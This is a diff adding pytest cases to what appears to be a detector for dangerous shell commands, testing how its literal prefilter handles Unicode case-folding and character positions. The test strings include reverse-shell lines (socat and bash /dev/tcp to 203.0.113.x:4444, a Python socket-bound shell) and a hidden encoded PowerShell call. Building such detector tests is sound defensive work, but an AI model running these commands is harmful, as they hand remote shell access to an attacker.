@@ -44,3 +44,37 @@ def test_required_literals(pattern: str, required: list[str] | None) -> None:
     assert (sorted(h.lower() for h in found) if found else None) == (
         sorted(required) if required else None
     )
+
+
+_LONG_PREFIX = "# notes for the maintenance window, read before running anything below\n" * 3
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Lower-casing U+0130 gives two characters: positions in the lowered text drift.
+        _LONG_PREFIX + "İ note: powershell -nop -w hidden -enc SQBFAFgA\n",
+        # A case-blind pattern matches the long s (U+017F) as "s"; it lowers to itself.
+        _LONG_PREFIX + "\u017focat tcp:203.0.113.5:4444 exec:/bin/sh\n",
+        "run \u017focat tcp:203.0.113.5:4444 exec:/bin/sh\n",  # short: scanned, not looked up
+        # Characters outside the basic plane before the literals: positions count characters.
+        "\U0001f600 \U0001d518 " * 40 + "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+        # A literal preceded by a look-behind and a word boundary, read in context.
+        _LONG_PREFIX + "x='/bin/sh'; subprocess.call(['/bin/sh', '-i'], stdin=s.fileno())\n",
+    ],
+    ids=[
+        "length-changing-lowercase",
+        "long-s",
+        "long-s-short-text",
+        "astral-characters",
+        "context-before-literal",
+    ],
+)
+def test_scan_tries_literals_only_where_positions_hold(text: str) -> None:
+    scanned = {(hit.capability.value, hit.start, hit.end) for hit in scan(text)}
+    assert scanned == _unfiltered(text)
+
+
+def test_prefilter_literals_are_ascii() -> None:
+    """Folding the four case-blind letters outside ASCII is enough only for ASCII literals."""
+    assert all(head.isascii() for _, _, heads in _PREFILTERED for head in heads or ())
